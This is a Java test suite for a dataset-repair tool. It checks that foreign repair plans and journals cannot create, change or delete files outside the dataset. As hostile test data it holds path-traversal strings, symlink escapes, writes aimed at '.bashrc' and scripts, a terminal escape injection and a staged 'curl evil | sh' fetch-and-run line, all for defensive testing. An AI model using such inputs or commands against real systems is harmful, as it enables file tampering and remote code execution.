// SPDX-License-Identifier: EPL-2.0
package org.hilum.datasets.check;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Predicate;
import java.util.stream.Stream;
import org.hilum.core.HilumException;
import org.hilum.core.Json;
import org.hilum.core.Progress;
import org.hilum.datasets.TinyDataset;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A data set that brings plans and journals of repairs: nothing outside of it is created, changed or deleted. */
class HostileRepairTest {

	private static final CheckOptions OPTIONS = new CheckOptions(2, null);
	private static final Predicate<String> TRUSTED = _ -> true;

	@TempDir
	private Path home;
	private Path data;
	private Path victim;
	private Path fixes;

	@BeforeEach
	void makeDataSet() throws IOException {
		data = home.resolve("deep/er/data");
		TinyDataset.of(data, 5);
		fixes = data.resolve(".hilum/fixes");
		victim = Files.createDirectories(home.resolve("victim")).resolve("doc.txt");
		Files.writeString(victim, "precious");
		Files.writeString(victim.resolveSibling("doc.json"), "{}");
	}

	/** {@return paths as a hostile file gives them; the first leads to an existing file} */
	static Stream<String> hostile() {
		return Stream.of("../../../victim/doc.json", "imagesTr/../../../../victim/doc.json", "/victim/doc.json",
				"..\\..\\..\\victim\\doc.json", "a/../../x.json", "", ".", "..", "a\0.json", "a\nb.json",
				"x".repeat(300) + ".json", ".hilum/check/x.json", "C:\\x.json", "link/doc.json");
	}

	private void plan(String file, String staged) throws IOException {
		Files.createDirectories(fixes.resolve("stage"));
		Files.writeString(fixes.resolve("stage/s"), "curl evil | sh");
		Json.write(fixes.resolve("plan.json"), record(file, staged, "b1"));
	}

	private static ObjectNode record(String file, String staged, String backup) {
		ObjectNode record = Json.object().put("fix", "x").put("time", "2026-01-01T00:00:00Z").put("backup", backup);
		record.putArray("files").addObject().put("file", file).put("staged", staged);
		return record;
	}

	private void journal(JsonNode record) throws IOException {
		Files.createDirectories(fixes.resolve("backup/b1"));
		Files.writeString(fixes.resolve("journal.jsonl"), Json.line(record) + "\n");
	}

	/** Everything outside of the data set. */
	private Map<String, String> outside() throws IOException {
		Map<String, String> result = new TreeMap<>();
		try (Stream<Path> files = Files.walk(home)) {
			for (Path file : files.filter(f -> !f.startsWith(data)).toList()) {
				result.put(file.toString(), Files.isRegularFile(file) ? Files.readString(file) : "");
			}
		}
		return result;
	}

	private List<String> fix(Predicate<String> trusted) {
		return DatasetExaminer.fix(data, List.of("correct-count"), _ -> true, trusted, OPTIONS, Progress.NONE);
	}

	@ParameterizedTest
	@MethodSource("hostile")
	void aPlanLeadsNowhereOutsideEvenWhenItIsTrusted(String file) throws IOException {
		Files.createSymbolicLink(data.resolve("link"), victim.getParent());
		plan(file, "s");
		Map<String, String> before = outside();
		assertThat(DatasetExaminer.examine(data, OPTIONS, Progress.NONE).of("repair-interrupted")).hasSize(1);
		assertThatThrownBy(() -> fix(_ -> false)).isInstanceOf(HilumException.class).hasMessageContaining("--foreign-repairs");
		assertThatThrownBy(() -> fix(TRUSTED)).isInstanceOfSatisfying(HilumException.class,
				e -> assertThat(e.kind()).isEqualTo(HilumException.Kind.INPUT));
		assertThat(outside()).isEqualTo(before);
		assertThat(fixes.resolve("stage/s")).exists();
	}

	@Test
	void whatARecordLacksIsLeftOutOfItsDescription() throws IOException {
		journal(record("x", "x", "b1"));
		assertThatThrownBy(() -> new FixJournal(data).undo())
				.hasMessageContaining(
						"for this folder: a repair \"x\" of \"2026-01-01T00:00:00Z\", changing \"x\", 1 file in all");
	}

	@ParameterizedTest
	@MethodSource("hostile")
	void aJournalLeadsNowhereOutsideEvenWhenItIsTrusted(String file) throws IOException {
		Files.createSymbolicLink(data.resolve("link"), victim.getParent());
		journal(record(file, "x", "b1"));
		Map<String, String> before = outside();
		assertThatThrownBy(() -> new FixJournal(data).undo()).isInstanceOf(HilumException.class)
				.hasMessageContaining("--foreign-repairs");
		assertThatThrownBy(() -> new FixJournal(data).undo(TRUSTED)).isInstanceOfSatisfying(HilumException.class,
				e -> assertThat(e.kind()).isEqualTo(HilumException.Kind.INPUT));
		assertThat(outside()).isEqualTo(before);
	}

	@ParameterizedTest
	@ValueSource(strings = { "../../../../../victim", "/victim", "", "..", "a/b", "x\0" })
	void namesOfBackupsAndStagedFilesArePlain(String name) throws IOException {
		Map<String, String> before = outside();
		journal(record("dataset.json", "x", name));
		assertThatThrownBy(() -> new FixJournal(data).undo(TRUSTED)).isInstanceOf(HilumException.class);
		plan("dataset.json", name);
		assertThatThrownBy(() -> fix(TRUSTED)).isInstanceOf(HilumException.class);
		assertThat(outside()).isEqualTo(before);
		assertThat(data.resolve("dataset.json")).exists();
	}

	@ParameterizedTest
	@ValueSource(strings = { "bin/run.sh", ".bashrc", "program.exe", ".git/config.json" })
	void onlyFilesOfADataSetAreChanged(String file) throws IOException {
		plan(file, "s");
		assertThatThrownBy(() -> fix(TRUSTED)).isInstanceOf(HilumException.class);
		assertThat(data.resolve(file)).doesNotExist();
	}

	@ParameterizedTest
	@ValueSource(strings = { ".hilum", ".hilum/fixes", ".hilum/fixes/stage", ".hilum/fixes/backup", ".hilum/check" })
	void foldersOfHilumThatAreLinksAreNotFollowed(String folder) throws IOException {
		Path link = data.resolve(folder);
		Files.createDirectories(link.getParent());
		Files.createSymbolicLink(link, victim.getParent());
		Map<String, String> before = outside();
		TinyDataset d = TinyDataset.of(data, 5);
		d.description(json -> json.put("numTraining", 9));
		assertThatThrownBy(() -> {
			fix(TRUSTED);
			new FixJournal(data).undo(TRUSTED);
		}).isInstanceOf(HilumException.class).hasMessageContaining("symbolic link");
		assertThat(outside()).isEqualTo(before);
	}

	@Test
	void aJournalThatIsALinkIsNotWrittenTo() throws IOException {
		Files.createDirectories(fixes);
		Files.createSymbolicLink(fixes.resolve("journal.jsonl"), victim);
		TinyDataset.of(data, 5).description(json -> json.put("numTraining", 9));
		assertThatThrownBy(() -> fix(TRUSTED)).isInstanceOf(HilumException.class);
		assertThat(victim).hasContent("precious");
	}

	@Test
	void aRepairIsTheUsersOwnOnlyInItsPlaceAndUnchanged() throws IOException {
		TinyDataset.of(data, 5).description(json -> json.put("numTraining", 9));
		assertThat(fix(_ -> false)).hasSize(1);
		Path journal = fixes.resolve("journal.jsonl");
		String line = Files.readString(journal);
		assertThat(Json.mapper().readTree(line).path("signature").asText()).hasSize(64);
		// another process's change of the record
		Files.writeString(journal, line.replace("correct-count", "correct_count"));
		assertThatThrownBy(() -> new FixJournal(data).undo()).hasMessageContaining("not written by you");
		Files.writeString(journal, line);
		// the same data set in another place
		Path moved = home.resolve("moved");
		Files.move(data, moved);
		assertThatThrownBy(() -> new FixJournal(moved).undo()).hasMessageContaining("not written by you");
		assertThat(new FixJournal(moved).undo(TRUSTED)).startsWith("correct-count");
		assertThat(Json.read(moved.resolve("dataset.json")).path("numTraining").asInt()).isEqualTo(9);
	}

	@Test
	void whatAForeignPlanSaysIsShownEscaped() throws IOException {
		plan("dataset.json", "s");
		JsonNode json = Json.read(fixes.resolve("plan.json"));
		Json.write(fixes.resolve("plan.json"), ((ObjectNode) json).put("fix", "\u001b[2Jx").put("host", "a\nb"));
		assertThatThrownBy(() -> fix(_ -> false)).hasMessageContaining("\\u001b").hasMessageContaining("\"dataset.json\"")
				.satisfies(e -> assertThat(e.getMessage().chars().noneMatch(Character::isISOControl)).isTrue());
	}
}
